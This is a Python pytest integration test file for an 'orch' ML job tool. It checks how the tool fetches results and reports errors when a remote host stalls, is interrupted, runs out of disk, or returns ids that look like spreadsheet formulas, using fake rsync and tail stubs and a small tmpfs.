    proc = h.orch("fetch-results", h.run, "--no-eval", timeout=60)
    no_traceback(proc)
    assert proc.returncode == 8, proc.stderr
    assert "this run's results are too big for this machine: evaluating " in proc.stderr, proc.stderr
    assert "of memory, and this machine has " in proc.stderr and "nothing more was fetched" in proc.stderr
    assert (h.local("class-1") / "scores.jsonl").read_bytes() == good
    assert not list(h.local().glob(".fetch-*"))


def test_formulas_in_ids_are_escaped_in_predictions_csv(hostile):
    """Issue 9.15: ids (and labels) starting with = + - @ are prefixed with a quote; a tab
    or CR is written as its escape."""
    h = hostile
    originals = []

    def forge(lines):
        out = []
        for i, line in enumerate(lines):
            row = json.loads(line)
            if i < len(FORMULAS):
                originals.append(row["id"])
                row["id"] = FORMULAS[i]
            out.append((json.dumps(row) + "\n").encode())
        return out

    for job in JOBS:
        originals.clear()
        rewrite_scores(h.job(job), forge)
    h.orch("fetch-results", h.run, check=True)
    with open(h.local() / "predictions.csv", newline="") as fh:
        ids = [row["id"] for row in csv.DictReader(fh)]
    for formula in FORMULAS:
        # a leading tab or CR is a control character: written as its escape, which no
        # spreadsheet reads as a formula; the rest get the leading quote
        safe = formula.replace("\t", "\\t").replace("\r", "\\r")
        assert (safe if safe != formula else "'" + formula) in ids, (formula, ids[:8])
        assert formula not in ids


# --------------------------------------------------------------------------- 16. Ctrl-C


def test_ctrl_c_during_fetch_says_what_was_kept(hostile, tmp_path):
    """Issue 9.16: Ctrl-C while results are in transit: exit 130, the previous verified copy
    untouched, and how to go on."""
    h = hostile
    h.orch("fetch-results", h.run, "--no-eval", check=True)
    good = (h.local("class-0") / "scores.jsonl").read_bytes()
    (h.job("class-0") / "scores.jsonl").write_bytes(b"changed on the host\n")
    slow = tmp_path / "slowbin"
    slow.mkdir()
    marker = tmp_path / "rsync-started"
    (slow / "rsync").write_text(
        f'#!/bin/sh\nsleep 60 &\necho $$ $! > {marker}\nwait\nexec {shutil.which("rsync")} "$@"\n'
    )
    (slow / "rsync").chmod(0o755)
    h.p.write_host(extra_path=[str(slow)])
    proc = h.p.popen("fetch-results", h.run)
    try:
        deadline = time.time() + 60
        while not marker.exists() and time.time() < deadline and proc.poll() is None:
            time.sleep(0.1)
        assert marker.exists(), proc.communicate()
        proc.send_signal(signal.SIGINT)
        stdout, stderr = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
        for pid in marker.read_text().split() if marker.exists() else []:
            try:
                os.kill(int(pid), signal.SIGKILL)  # the fake rsync and its sleep, on the "host"
            except (ProcessLookupError, ValueError):
                pass
    assert proc.returncode == 130, stderr
    assert "Traceback" not in stderr
    assert "untouched" in stderr and f"orch fetch-results {h.run}" in stderr, stderr
    assert (h.local("class-0") / "scores.jsonl").read_bytes() == good
    assert not list(h.local().glob(".fetch-*"))


# --------------------------------------------------------------------------- a stalled or endless host


@contextlib.contextmanager
def stalled(h, tmp_path, tool):
    """The host's TOOL never answers (a fake first on its PATH), and io_timeout is 2 s;
    yields the file the fake writes its pid into, and kills it after."""
    stall = tmp_path / "stallbin"
    stall.mkdir()
    marker = tmp_path / f"{tool}-pid"
    (stall / tool).write_text(f"#!/bin/sh\necho $$ > {marker}\nexec sleep 600\n")
    (stall / tool).chmod(0o755)
    h.p.write_host(extra_path=[str(stall)], io_timeout=2)
    try:
        yield marker
    finally:
        if marker.exists():
            try:
                os.kill(int(marker.read_text()), signal.SIGKILL)  # the stalled "host" tool
            except (ProcessLookupError, ValueError):
                pass


def test_a_host_that_stalls_an_rsync_transfer_is_left_after_its_io_timeout(hostile, tmp_path):
    """A host whose rsync never answers: the fetch stops once the host has been silent for
    the host file's io_timeout, says so, and keeps the verified copy."""
    h = hostile
    h.orch("fetch-results", h.run, "--no-eval", check=True)
    good = (h.local("class-0") / "scores.jsonl").read_bytes()
    with stalled(h, tmp_path, "rsync"):
        proc = h.orch("fetch-results", h.run, timeout=120)
    no_traceback(proc)
    assert proc.returncode == 7, proc.stderr
    assert "testhost sent nothing for 2 s: rsync stopped" in proc.stderr, proc.stderr
    assert "io_timeout" in proc.stderr
    assert (h.local("class-0") / "scores.jsonl").read_bytes() == good
    assert not list(h.local().glob(".fetch-*"))


def test_a_quick_command_on_a_stalled_host_is_left_after_its_io_timeout(hostile, tmp_path):
    """`orch logs` runs `tail` on the host with no timeout of its own: a host that never
    answers is left once it has been silent for io_timeout, with one message and a hint."""
    h = hostile
    with stalled(h, tmp_path, "tail") as marker:
        proc = h.orch("logs", h.run, timeout=120)
    no_traceback(proc)
    assert marker.exists(), proc.stderr  # the fake tail really ran on the host
    assert proc.returncode == 7, proc.stderr
    assert "testhost sent nothing for 2 s, so orch stopped waiting for" in proc.stderr, proc.stderr
    assert "io_timeout" in proc.stderr


@pytest.fixture(scope="module")
def odd_sftp(tmp_path_factory):
    """An sshd whose SFTP subsystem is tests/integration/odd_sftp_server.py, doing what
    the returned file says ("stall" or "endless")."""
    from tests.integration.conftest import start_sshd

    root = tmp_path_factory.mktemp("odd-sftp")
    mode = root / "mode"
    mode.write_text("stall")
    server = start_sshd(root / "sshd", sftp=f"{sys.executable} {Path(__file__).parent / 'odd_sftp_server.py'} {mode}")
    yield server, mode
    server.stop()


@pytest.mark.parametrize("mode", ["stall", "endless"])
def test_an_sftp_server_that_stalls_or_lists_without_end_is_left(hostile, odd_sftp, tmp_path, mode):
    """Over SFTP (no rsync here), a server that never answers is left after io_timeout, and
    one that lists names without end is refused after MAX_ENTRIES of them: one message,
    exit 7, and nothing written to the run folder."""
    h = hostile
    server, mode_file = odd_sftp
    mode_file.write_text(mode)
    h.p.env["PATH"] = path_without_rsync(tmp_path)
    h.p.write_host(
        port=server.port, known_hosts_file=str(server.known_hosts), identity_file=str(server.client_key), io_timeout=2
    )
    proc = h.orch("fetch-results", h.run, "--no-eval", timeout=120)
    no_traceback(proc)
    assert proc.returncode == 7, proc.stderr
    if mode == "stall":
        assert "testhost: the host sent nothing for 2 s over SFTP" in proc.stderr, proc.stderr
    else:
        assert f"testhost lists more than {MAX_ENTRIES} entries in {h.p.remote_root}/runs/{h.run}/jobs" in proc.stderr
    assert not (h.local() / "jobs").exists() and not list(h.local().glob(".fetch-*"))


# --------------------------------------------------------------------------- 12. full disk


@pytest.fixture
def full_host(sshd, tmp_path):
    """A project whose host workdir is a 48 MB tmpfs (root only), unmounted afterwards.

    Disk-full is real here: writes on the host get ENOSPC from the kernel, on the same
    paths (rsync, SFTP, the job, the wrapper) a full disk on a GPU host hits."""
    if os.geteuid() != 0:
        pytest.skip("mounting a small tmpfs needs root")
    mount = tmp_path / "hostwork"
    mount.mkdir()
    res = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=48m", "tmpfs", str(mount)], capture_output=True, text=True
    )
    if res.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {res.stderr.strip()}")
    p = make_project(tmp_path / "project", mount, sshd)
    try:
        yield p
    finally:
        stop_host_processes(mount)
        subprocess.run(["umount", "-l", str(mount)], capture_output=True)


def fill(folder: Path, name: str = "filler") -> Path:
    """Write zeros into FOLDER until the filesystem says ENOSPC (unbuffered: every byte the
    kernel took is on the disk)."""
    filler = folder / name
    with open(filler, "wb", buffering=0) as fh:
        for chunk in (1 << 20, 4096, 1):
            try:
                while True:
                    fh.write(b"\0" * chunk)
            except OSError:
                pass
    return filler


def assert_no_space(proc, workdir: Path) -> None:
    no_traceback(proc)
    assert proc.returncode != 0
    assert f"no space left on the host's {workdir}" in proc.stderr and "MB free)" in proc.stderr, proc.stderr


def test_launch_onto_a_full_disk_says_so_over_rsync_and_sftp(full_host, tmp_path):
    """Issue 9.12: a full host disk while sending the code (rsync, then SFTP) and while
    sending a data file bigger than the room left (rsync dies mid-file): one message each,
    "no space left on the host's <workdir> (N MB free)", with rsync's own reason kept."""
    p = full_host
    filler = fill(p.remote_root)
    over_rsync = p.orch("run", "smoke", "--host", "testhost", "--name", "full1", *FAST)
    assert_no_space(over_rsync, p.remote_root)
    # rsync's own words when it has them ("write failed ... No space left on device"): it
    # sometimes loses them itself (the receiver dies mid-file), with OpenSSH as well.
    assert "(0 MB free)" in over_rsync.stderr, over_rsync.stderr
    env = dict(p.env)
    p.env["PATH"] = path_without_rsync(tmp_path)
    over_sftp = p.orch("run", "smoke", "--host", "testhost", "--name", "full2", *FAST)
    assert_no_space(over_sftp, p.remote_root)
    p.env.clear()
    p.env.update(env)

    # Room for the code (a few hundred KB), not for a 24 MB data file.
    with open(filler, "r+b") as fh:
        fh.truncate(filler.stat().st_size - (4 << 20))
    rows = [
        json.loads(line) for line in (p.root / "configs" / "data" / "tiny_sentiment.jsonl").read_text().splitlines()
    ]
    with open(p.root / "big.jsonl", "w") as fh:
        i = 0
        while fh.tell() < 24 << 20:
            for row in rows:
                fh.write(json.dumps(dict(row, id=f"{row['id']}/{i}")) + "\n")
            i += 1
    big_data = p.orch("run", "smoke", "--host", "testhost", "--name", "full3", "--set", "data.path=big.jsonl", *FAST)
    assert_no_space(big_data, p.remote_root)
    assert not (p.root / "runs" / "full3").exists()  # nothing of the run was launched: the name is free again
    filler.unlink()


def test_a_job_that_fills_the_disk_is_failed_with_the_reason_and_resume_says_so(full_host):
    """Issue 9.12: the wrapper records a failure even on a full disk (it reserved the room
    at start), and `--resume` on a full disk is a message, not a Paramiko traceback."""
    p = full_host
    p.orch(
        "run",
        "smoke",
        "--host",
        "testhost",
        "--name",
        "fills",
        "--set",
        "train.steps=100000",
        "--set",
        "train.log_every=1",
        check=True,
    )
    deadline = time.time() + 120
    progress = p.remote_job("fills", "class-0") / "progress.jsonl"
    while not (progress.exists() and progress.stat().st_size > 0) and time.time() < deadline:
        time.sleep(0.5)
    fill(p.remote_root)
    jobs = {j["name"]: j for j in p.wait_state("fills", states=("done", "failed", "cancelled", "lost"), timeout=180)}
    for job in jobs.values():
        assert job["state"] == "failed", jobs
        assert f"no space left on the host's {p.remote_root}" in job["reason"], jobs
    table = p.orch("status", "fills")
    assert "no space left" in table.stdout
    fill(p.remote_root, "filler2")  # the failed jobs gave back what they had reserved
    resumed = p.orch("run", "smoke", "--resume", "fills")
    assert_no_space(resumed, p.remote_root)
